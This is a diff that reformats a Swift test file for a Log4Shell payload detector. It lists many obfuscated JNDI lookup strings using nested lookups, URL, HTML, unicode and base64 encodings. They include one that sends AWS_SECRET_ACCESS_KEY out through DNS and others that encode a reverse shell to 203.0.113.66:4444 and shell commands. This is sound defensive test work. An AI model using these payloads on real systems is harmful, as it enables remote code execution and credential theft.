@@ -28,9 +28,12 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
 
   /// Every way to write a letter, each giving the same payload.
   @Test(arguments: [
-    "${${lower:J}ndi:ldap://h.example/a}", "${${upper:j}NDI:ldap://h.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example/a}",
-    "${${env:NOPE:-j}ndi${sys:nope:-:}ldap://h.example/a}", "${jnd${upper:ı}:ldap://h.example/a}", "${${date:'jndi'}:ldap://h.example/a}",
-    "${jn${date:'d'}i${date::}ldap://h.example/a}", "${${:-jndi}:ldap:${main:0:-/}/h.example/a}", "${${web:x:-j}${k8s:y:-n}${java:z:-d}i:ldap://h.example/a}",
+    "${${lower:J}ndi:ldap://h.example/a}", "${${upper:j}NDI:ldap://h.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example/a}",
+    "${${env:NOPE:-j}ndi${sys:nope:-:}ldap://h.example/a}", "${jnd${upper:ı}:ldap://h.example/a}",
+    "${${date:'jndi'}:ldap://h.example/a}",
+    "${jn${date:'d'}i${date::}ldap://h.example/a}", "${${:-jndi}:ldap:${main:0:-/}/h.example/a}",
+    "${${web:x:-j}${k8s:y:-n}${java:z:-d}i:ldap://h.example/a}",
     "${jndi${sys:path.separator}ldap:${sys:file.separator}/h.example/a}", "${LOWER:x${jndi:ldap://h.example/a}}",
     "${${lower:${upper:${lower:${::-${env:Q:-j}}}}}ndi:ldap://h.example/a}", "${what:ever:-${jndi:ldap://h.example/a}}",
     "${env:a:-${env:b:-$}{jndi:ldap://h.example/a}}", "${x:-$}{jndi:ldap://h.example/a}",
@@ -44,12 +47,18 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
 
   @Test(arguments: [
     "%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D", "%2524%257Bjndi%253Aldap%253A%252F%252Fh.example%252Fa%257D",
-    "%25252524%2525257Bjndi:ldap://h.example/a%2525257D", "$%7Bjndi:ldap://h.example/a%7D", "%24{jndi:ldap://h.example/a}",
-    "%u0024%u007Bjndi%u003aldap://h.example/a%u007D", "\\u0024\\u007bjndi:ldap:\\u002f\\u002fh.example/a}", "\\uuu0024{jndi:ldap://h.example/a}",
-    "\\x24\\x7bjndi\\x3aldap://h.example/a}", "\\044\\173jndi:ldap://h.example/a}", "\\\\u0024{jndi:ldap://h.example/a}",
-    "&#36;&#123;jndi:ldap://h.example/a&#125;", "&#x24;&#x7B;jndi&colon;ldap&colon;&sol;&sol;h.example/a&rcub;", "&dollar;&lbrace;jndi:ldap://h.example/a}",
-    "$&lcub;jndi:ldap://h.example/a}", "&amp;#36;{jndi:ldap://h.example/a}", "%26%2336%3B%7Bjndi:ldap://h.example/a}", "%%32%34%7Bjndi:ldap://h.example/a%7D",
-    "{\\\"ua\\\":\\\"${jndi:ldap:\\/\\/h.example\\/a}\\\"}", "\\u002524{jndi:ldap://h.example/a}", "%24%7B%24%7Blower:j%7Dndi:%6c%64ap://h.example/a%7D",
+    "%25252524%2525257Bjndi:ldap://h.example/a%2525257D", "$%7Bjndi:ldap://h.example/a%7D",
+    "%24{jndi:ldap://h.example/a}",
+    "%u0024%u007Bjndi%u003aldap://h.example/a%u007D", "\\u0024\\u007bjndi:ldap:\\u002f\\u002fh.example/a}",
+    "\\uuu0024{jndi:ldap://h.example/a}",
+    "\\x24\\x7bjndi\\x3aldap://h.example/a}", "\\044\\173jndi:ldap://h.example/a}",
+    "\\\\u0024{jndi:ldap://h.example/a}",
+    "&#36;&#123;jndi:ldap://h.example/a&#125;", "&#x24;&#x7B;jndi&colon;ldap&colon;&sol;&sol;h.example/a&rcub;",
+    "&dollar;&lbrace;jndi:ldap://h.example/a}",
+    "$&lcub;jndi:ldap://h.example/a}", "&amp;#36;{jndi:ldap://h.example/a}", "%26%2336%3B%7Bjndi:ldap://h.example/a}",
+    "%%32%34%7Bjndi:ldap://h.example/a%7D",
+    "{\\\"ua\\\":\\\"${jndi:ldap:\\/\\/h.example\\/a}\\\"}", "\\u002524{jndi:ldap://h.example/a}",
+    "%24%7B%24%7Blower:j%7Dndi:%6c%64ap://h.example/a%7D",
   ])
   func undoesEncodings(text: String) {
     let found = log4shell("GET /?q=\(text) HTTP/1.1")
@@ -58,18 +67,23 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.steps.isEmpty == text.hasPrefix("${"))
   }
 
-  @Test(arguments: [
-    ("${jndi:ldap://[2001:db8::7]:1389/x}", "[2001:db8::7]", 1389), ("${jndi:ldap://[2001:db8::7]/x}", "[2001:db8::7]", nil),
-    ("${jndi:rmi://h.example:99/x}", "h.example", 99), ("${jndi:ldap://h.example:999999/x}", "h.example", nil), ("${jndi:dns:/h.example}", "h.example", nil),
-    ("${jndi:ldap://127.0.0.1#h.example:8/x}", "127.0.0.1#h.example", 8), ("${jndi:ldap:h.example/a}", "h.example", nil),
-  ] as [(String, String, Int?)])
+  @Test(
+    arguments: [
+      ("${jndi:ldap://[2001:db8::7]:1389/x}", "[2001:db8::7]", 1389),
+      ("${jndi:ldap://[2001:db8::7]/x}", "[2001:db8::7]", nil),
+      ("${jndi:rmi://h.example:99/x}", "h.example", 99), ("${jndi:ldap://h.example:999999/x}", "h.example", nil),
+      ("${jndi:dns:/h.example}", "h.example", nil),
+      ("${jndi:ldap://127.0.0.1#h.example:8/x}", "127.0.0.1#h.example", 8),
+      ("${jndi:ldap:h.example/a}", "h.example", nil),
+    ] as [(String, String, Int?)])
   func readsAuthorities(text: String, host: String, port: Int?) {
     #expect(log4shell(text)?.host == host)
     #expect(log4shell(text)?.port == port)
   }
 
   @Test func namesWhatWouldLeak() {
-    let found = log4shell("${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example/${sys:user.name:-none}/${env:q:-y}}")
+    let found = log4shell(
+      "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example/${sys:user.name:-none}/${env:q:-y}}")
     #expect(found?.leaks == ["env:AWS_SECRET_ACCESS_KEY", "hostName", "sys:user.name"])
     #expect(found?.host == "${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example")
     #expect(found?.message.contains("AWS_SECRET_ACCESS_KEY") == true)
@@ -84,9 +98,14 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   @Test func readsTheOtherPathFamilies() {
-    #expect(log4shell("${jndi:ldap://h.example/TomcatBypass/ReverseShell/203.0.113.66/4444}")?.commands == ["reverse shell to 203.0.113.66:4444"])
+    #expect(
+      log4shell("${jndi:ldap://h.example/TomcatBypass/ReverseShell/203.0.113.66/4444}")?.commands == [
+        "reverse shell to 203.0.113.66:4444"
+      ])
     #expect(log4shell("${jndi:ldap://h.example/Basic/Command/touch%20/tmp/x}")?.commands == ["touch /tmp/x"])
-    #expect(log4shell("${jndi:ldap://h.example/Deserialization/CommonsBeanutils1/Command/Base64/\(base64("id > /tmp/o"))}")?.commands == ["id > /tmp/o"])
+    #expect(
+      log4shell("${jndi:ldap://h.example/Deserialization/CommonsBeanutils1/Command/Base64/\(base64("id > /tmp/o"))}")?
+        .commands == ["id > /tmp/o"])
   }
 
   @Test func readsUTF16() {
@@ -103,10 +122,15 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.host == "h.example")
   }
 
-  @Test func readsTheBase64Lookup() { #expect(log4shell("${${base64:\(base64("${jndi:ldap://h.example/a}"))}}")?.host == "h.example") }
+  @Test func readsTheBase64Lookup() {
+    #expect(log4shell("${${base64:\(base64("${jndi:ldap://h.example/a}"))}}")?.host == "h.example")
+  }
 
   /// A field limit may cut anywhere behind the scheme's first letter.
-  @Test(arguments: ["${jndi:ldap://h.example:13", "${${::-j}ndi:rmi://h.exam", "%24%7Bjndi%3Aldap%3A%2F%2Fh.exam", "${jndi:ld", "${jndi:ldap://${env:USER}.h.exa"])
+  @Test(arguments: [
+    "${jndi:ldap://h.example:13", "${${::-j}ndi:rmi://h.exam", "%24%7Bjndi%3Aldap%3A%2F%2Fh.exam", "${jndi:ld",
+    "${jndi:ldap://${env:USER}.h.exa",
+  ])
   func seesCutPayloads(text: String) {
     let found = log4shell(text)
     #expect(found != nil)
@@ -114,8 +138,10 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   @Test(arguments: [
-    "/board/list.do?q=%24%7Bprice%7D+discount", "${price}", "${jndi}", "${jndi:java:comp/env/jdbc/main}", "${jndi:logging/name}", "jndi:ldap://h.example/a",
-    "JndiLookup.class", "${{ matrix.java }}", "$${env:HOME}", "${a:-${b:-c}}", "${#fields.errors()}", "printf '%24s'", "${lower:JNDI}:ldap://h.example",
+    "/board/list.do?q=%24%7Bprice%7D+discount", "${price}", "${jndi}", "${jndi:java:comp/env/jdbc/main}",
+    "${jndi:logging/name}", "jndi:ldap://h.example/a",
+    "JndiLookup.class", "${{ matrix.java }}", "$${env:HOME}", "${a:-${b:-c}}", "${#fields.errors()}", "printf '%24s'",
+    "${lower:JNDI}:ldap://h.example",
     "echo ${jndi_home:-/opt}/ldap://x", "%24", "$", "", "&#36;", "${", "}}}}", "${${${${",
   ])
   func staysQuiet(text: String) {
@@ -124,22 +150,30 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   @Test func findsEveryPayloadOfALine() {
-    let found = "a ${jndi:ldap://a.example/1} b ${jndi:rmi://b.example/2}\n${jndi:dns://c.example}".withView { Log4ShellDetector().scan($0, .bytes) }
+    let found = "a ${jndi:ldap://a.example/1} b ${jndi:rmi://b.example/2}\n${jndi:dns://c.example}".withView {
+      Log4ShellDetector().scan($0, .bytes)
+    }
     #expect(found.map(\.host) == ["a.example", "b.example", "c.example"])
   }
 
   /// Shapes that cost a naive decoder quadratic time or its stack. The time limit of the run is the test; the counts show
   /// that the decoder did go through.
-  @Test(arguments: ["${", "${a:-", "${lower:", "%25", "%2524", "\\", "&#36;", "${jndi:", "${jndi:ldap://a", "$\0{\0", "JHtqbmRp", "${base64:", "&amp;", "${::-$}{"])
+  @Test(arguments: [
+    "${", "${a:-", "${lower:", "%25", "%2524", "\\", "&#36;", "${jndi:", "${jndi:ldap://a", "$\0{\0", "JHtqbmRp",
+    "${base64:", "&amp;", "${::-$}{",
+  ])
   func survivesFloods(unit: String) {
-    let text = String(repeating: unit, count: 200_000) + String(repeating: "}", count: 1000) + "\n${jndi:ldap://end.example/a}"
+    let text =
+      String(repeating: unit, count: 200_000) + String(repeating: "}", count: 1000) + "\n${jndi:ldap://end.example/a}"
     let found = text.withView { Log4ShellDetector().scan($0, .bytes) }
     #expect(found.contains { $0.host == "end.example" } || found.count >= Log4ShellDetector.maximumDetections)
   }
 
   @Test func deepNestingResolves() {
     let depth = 3000
-    let text = "${" + String(repeating: "${lower:", count: depth) + "J" + String(repeating: "}", count: depth) + "ndi:ldap://h.example/a}"
+    let text =
+      "${" + String(repeating: "${lower:", count: depth) + "J" + String(repeating: "}", count: depth)
+      + "ndi:ldap://h.example/a}"
     #expect(log4shell(text)?.host == "h.example")
   }
 
@@ -150,7 +184,8 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
       for _ in 0..<400 {
         state = state &* 6_364_136_223_846_793_005 &+ 1
         let pick = "${}%24\\u0&#;:-jndilap/\0\n".utf8
-        bytes.append(state >> 60 == 0 ? UInt8(truncatingIfNeeded: state >> 40) : Array(pick)[Int(state >> 33) % pick.count])
+        bytes.append(
+          state >> 60 == 0 ? UInt8(truncatingIfNeeded: state >> 40) : Array(pick)[Int(state >> 33) % pick.count])
       }
       let found = bytes.withView { Log4ShellDetector().scan($0, .bytes) }
       #expect(found.allSatisfy { $0.range.lowerBound >= 0 && $0.range.upperBound <= bytes.count })
